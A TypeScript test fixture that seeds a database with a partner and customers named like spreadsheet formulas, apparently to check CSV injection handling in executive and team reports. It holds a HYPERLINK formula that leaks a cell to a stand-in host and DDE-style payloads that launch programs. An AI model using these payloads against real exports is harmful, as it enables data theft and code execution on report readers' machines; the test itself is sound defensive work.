import { sql } from 'kysely';
import type { Db } from '../../src/platform/db';

/** Text a spreadsheet would run as a formula if a file carried it as is (OWASP CSV injection). */
export const FORMULA_PARTNER = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
export const FORMULA_CUSTOMERS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", '-2+3+cmd', '\t=1+1'] as const;

/**
 * A partner and customers named like formulas, with business credited to `employeeId` on `day`:
 * they appear in the executive report of the partner and the team report of the employee.
 */
export async function insertFormulaNamedBusiness(db: Db, employeeId: number, day: string): Promise<{ partnerCode: string }> {
  const partnerCode = 'EI777777';
  const state = await sql<{ id: number }>`select min(id) as id from states`.execute(db);
  const insurer = await sql<{ id: number }>`select min(id) as id from insurers`.execute(db);
  const partner = await db
    .insertInto('partners')
    .values({
      unique_code: partnerCode,
      pos_code: 'POS777777',
      name: FORMULA_PARTNER,
      phone: '5777777777',
      email: 'formula.partner@example.org',
      pincode: '110001',
      state_id: state.rows[0]?.id ?? 1,
      registered_at: '2025-01-01',
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  await db
    .insertInto('partner_mappings')
    .values({ partner_id: partner.id, manager_id: employeeId, reporting_type: 2, valid_from: '2025-01-01T00:00:00Z' })
    .execute();
  const issued = `${day}T06:00:00Z`;
  for (const [i, name] of FORMULA_CUSTOMERS.entries()) {
    const customer = await db
      .insertInto('customers')
      .values({ name, phone: `577777770${i}`, email: `formula${i}@example.org`, pincode: '110001' })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db
      .insertInto('policies')
      .values({
        proposal_no: `FORMULA${i}`,
        policy_no: `FORMULA/${i}`,
        partner_id: partner.id,
        employee_id: employeeId,
        customer_id: customer.id,
        product_type_id: 10,
        insurer_id: insurer.rows[0]?.id ?? 1,
        state_id: state.rows[0]?.id ?? 1,
        business_type: 1,
        channel: 'pos',
        status: 'success',
        paid_amount: 1000 + i,
        weightage_premium: 1000 + i,
        payment_id: `formula_pay_${i}`,
        issued_at: issued,
        created_at: issued,
        updated_at: issued,
      })
      .execute();
  }
  return { partnerCode };
}
